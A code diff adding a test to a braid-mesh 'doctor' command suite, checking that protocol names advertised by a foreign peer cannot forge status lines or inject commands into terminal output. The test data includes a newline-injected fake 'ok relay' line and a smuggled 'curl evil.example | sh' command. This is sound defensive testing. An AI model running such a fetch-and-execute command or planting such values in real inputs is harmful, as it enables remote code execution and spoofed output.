@@ -73,6 +73,16 @@ describe('braid-mesh doctor, where one thing does not work', function () {
     expect(code).to.equal(3)
   })
 
+  it('mesh: what it claims to be of prints no line, and no command to be typed', async () => {
+    const forger = await ForeignPeer.start({ mesh: 'other' })
+    peers.push(forger)
+    await forger.libp2p.handle('/braid/x\nok      relay      shop  it gave this node a place/1', () => {})
+    await forger.libp2p.handle('/braid/x; curl evil.example | sh/1', () => {})
+    const { out } = await new FakeTerminal().run('doctor', '--mesh', 'shop', '--bootstrap', String(forger.libp2p.getMultiaddrs()[0]), '--timeout', '3000')
+    expect(out).not.to.match(/^ok +relay/m).and.not.to.include('curl')
+    expect(out).to.match(/^failed +mesh .*of mesh 'other', not 'shop': --mesh other$/m)
+  })
+
   it('dht: nobody serves it', async () => {
     await blamed(await peer({ dht: false }), 'dht', /^no answer in 3000 ms: at least one node that is no browser tab/)
   })
